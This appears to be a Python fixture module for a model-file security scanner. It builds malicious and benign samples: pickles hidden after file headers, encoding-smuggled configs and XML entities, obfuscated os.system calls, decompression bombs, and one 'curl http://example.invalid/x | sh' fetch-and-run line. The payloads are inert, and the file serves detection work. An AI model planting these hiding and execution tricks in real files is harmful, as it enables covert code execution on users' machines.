"""What the other modules have in one format, in many: something behind the end of every kind of file, texts in other
encodings, source that hides what it calls, and names that say what an operator does."""

from __future__ import annotations

import json
import struct
import zlib

from .archives_bad import gz
from .assembler import inert_pickle
from .case import Shelf
from .confusion import elf

OLD = b"cos\nsystem\n(S'echo waag-inert'\ntR."
NEW = inert_pickle()
SCRIPT = b"#!/bin/sh\necho waag-inert\n"
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0\x3a\x7e\x9b\x55\0\0\0\0IEND\xae\x42\x60\x82"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9"
WAV = b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + bytes(4)
RKNN = b"RKNN" + bytes(4) + struct.pack("<QQ", 6, 64) + bytes(64)
# (id, name, how it starts): formats that are told apart and not parsed.
HOSTS = [
    ("gif", "preview.gif", b"GIF89a\1\0\1\0\0\0\0;"),
    ("png", "preview.png", PNG),
    ("jpeg", "preview.jpg", JPEG),
    ("pdf", "paper.pdf", b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n"),
    ("wav", "sample.wav", WAV),
    ("flac", "sample.flac", b"fLaC\0\0\0\x22" + bytes(34)),
    ("rknn", "model.rknn", RKNN),
    ("tensorrt", "model.plan", b"ftrt" + struct.pack("<IIQ", 0, 16, 64) + bytes(64)),
    ("hailo", "model.hef", b"\x01HEF" + bytes(60)),
    ("mnn", "model.mnn", bytes([28, 0, 0, 0]) + bytes(60)),
    ("xgboost-binary", "model.bin", b"binf" + bytes(140)),
    ("json", "config.json", b'{"model_type": "bert"}'),
    ("jsonl", "train.jsonl", b'{"a": 1}\n{"a": 2}\n'),
]


def hidden() -> Shelf:
    """Behind the end of files that nobody parses to their end."""
    shelf = Shelf("behind-the-end")
    for id, name, start in HOSTS:
        shelf.bad(f"{id}-pickle", start + NEW, "a pickle", name=name)
        shelf.bad(f"{id}-padded-pickle", start + bytes(512) + NEW, "a pickle behind padding", name=name)
        if not name.endswith("jsonl"):
            shelf.bad(f"{id}-old-pickle", start + b"\n" + OLD, "a pickle of protocol 0 on a line of its own", name=name)
    shelf.bad("readme-binary", b"# A model\n\nUse it well.\n" + elf(), "a program behind a README", name="README.md")
    shelf.bad("source-binary", b"import torch\n" + elf(), "a program behind source code", name="train.py")
    shelf.bad("json-script", b'{"a": 1}\n' + SCRIPT, "a script behind JSON", name="config.json")
    shelf.bad("json-flood-pickle", b'{"a": 1' + b', "a": 1' * 80 + b"}" + NEW, "a pickle behind JSON with eighty oddities", name="config.json")
    shelf.bad("weights-source", b"import os\nos.system('echo waag-inert')\n", "Python called weights", name="pytorch_model.bin")
    shelf.bad("weights-commands", b"curl http://example.invalid/x | sh\n", "a command called weights", name="model.ckpt")
    shelf.bad("startup-pth", b"import os; os.system('echo waag-inert')\n", "a path file that Python runs at start", name="distutils-precedence.pth")
    return shelf


LAMBDA = {
    "class_name": "Sequential",
    "module": "keras",
    "config": {"layers": [{"class_name": "Lambda", "module": "keras.layers", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wAAAA==\n", "defaults": None, "closure": None}}}}]},
}
ENTITY = '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///dev/null">]><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header description="&x;"/></PMML>'
ENCODINGS = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]


def encodings() -> Shelf:
    """json.loads and every reader of XML take these unasked."""
    shelf = Shelf("encodings")
    for encoding in ENCODINGS:
        shelf.bad(f"keras-{encoding}", json.dumps(LAMBDA).encode(encoding), f"a Lambda in {encoding}", name="config.json")
        shelf.bad(f"pmml-{encoding}", ENTITY.encode(encoding), f"an entity in {encoding}", name="model.pmml")
        target = json.dumps({"_target_": "os.system", "command": "echo waag-inert"})
        shelf.bad(f"target-{encoding}", target.encode(encoding), f"a target in {encoding}", name="config.json")
    seven = ENTITY.replace('"1.0"', '"1.0" encoding="UTF-7"')
    shelf.bad("pmml-utf-7", seven.encode(), "tags that only readers of UTF-7 see", name="model.pmml")
    return shelf


SOURCES = {
    "dictionary": "import os\n{'a': os}['a'].system('echo waag-inert')\n",
    "dictionary-get": "import os\nd = {'a': os.system}\nd.get('a')('echo waag-inert')\n",
    "list": "import os\n[os][0].system('echo waag-inert')\n",
    "class-attribute": "import os\nclass A:\n    r = os.system\nA.r('echo waag-inert')\n",
    "returned": "import os\ndef f():\n    return os.system\nf()('echo waag-inert')\n",
    "partial": "import functools, os\nfunctools.partial(os.system, 'echo waag-inert')()\n",
    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)('echo waag-inert')\n",
    "reduce": "import functools, os\nfunctools.reduce(getattr, ['system'], os)('echo waag-inert')\n",
    "subclasses": "().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__['system']('echo waag-inert')\n",
    "logging": "import logging.config\nlogging.config.dictConfig({'version': 1, 'formatters': {'a': {'()': 'os.system', 'command': 'echo waag-inert'}}})\n",
    "default": "import os\ndef f(x=os.system('echo waag-inert')):\n    pass\n",
    "modules": "import sys\nsys.modules['os'].system('echo waag-inert')\n",
    "walrus": "import os\n(f := os.system)('echo waag-inert')\n",
    "comprehension": "import os\n[f('echo waag-inert') for f in [os.system]]\n",
}


def source() -> Shelf:
    """Source beside a model that calls what it does not spell."""
    shelf = Shelf("source-tricks")
    for id, text in SOURCES.items():
        shelf.bad(id, text.encode(), f"Python: {id}", name="modeling_extra.py")
    shelf.bad("path", b"import sys\nsys.path.insert(0, '/tmp/x')\nimport evil\n", "imports from a folder of anybody's", name="modeling_extra.py", expect="not-allow")
    return shelf


def bombs() -> Shelf:
    """Small files that stop whoever reads them."""
    shelf = Shelf("bombs")
    zeros = bytes(80 << 20)
    shelf.bad("gzip-twice", gz(gz(zeros)), "80 MB of zeros in gzip in gzip", name="model.pkl.gz")
    shelf.bad("zlib-in-gzip", gz(zlib.compress(zeros, 9)), "80 MB of zeros in zlib in gzip", name="model.pkl.gz")
    for id, name, text in [
        ("json", "config.json", b'{"a":' * 3000 + b"1" + b"}" * 3000),
        ("json-lists", "config.json", b"[" * 100_000),
        ("yaml", "config.yaml", b"[" * 20_000),
        ("xml", "model.pmml", b'<?xml version="1.0"?><PMML version="4.4">' + b"<Extension>" * 5000),
        ("msgpack", "model.msgpack", b"\x91" * 100_000),
    ]:
        shelf.bad(f"deep-{id}", text, "values too deep in each other", name=name)
    return shelf


def good() -> Shelf:
    """The same kinds of files, as honest people have them."""
    shelf = Shelf("good-variants")
    for id, name, start in HOSTS:
        if id not in ("rknn", "tensorrt", "hailo", "mnn", "xgboost-binary"):
            shelf.good(id, start, "nothing behind the end", name=name)
    shelf.good("utf-16-config", json.dumps({"model_type": "bert"}).encode("utf-16"), "a configuration in UTF-16", name="config.json")
    shelf.good("utf-16-labels", "cat\ndog\nbird\n".encode("utf-16"), "labels in UTF-16", name="labels.txt")
    notes = "# Pickles\n\nA pickle of protocol 0 that runs a command looks so:\n\n    cos\n    system\n    (S'id'\n    tR.\n\nNever eval() it.\n"
    shelf.good("notes-on-pickles", notes.encode(), "a document on pickles", name="README.md")
    helper = "import functools\nimport logging.config\nimport os\nimport subprocess\nimport sys\n\nsys.path.insert(0, os.path.dirname(__file__))\nrun = functools.partial(subprocess.run, check=True)\nLOSSES = {'l1': 1, 'l2': 2}\n"
    shelf.good("source-helpers", helper.encode(), "ordinary helpers", name="utils.py")
    return shelf
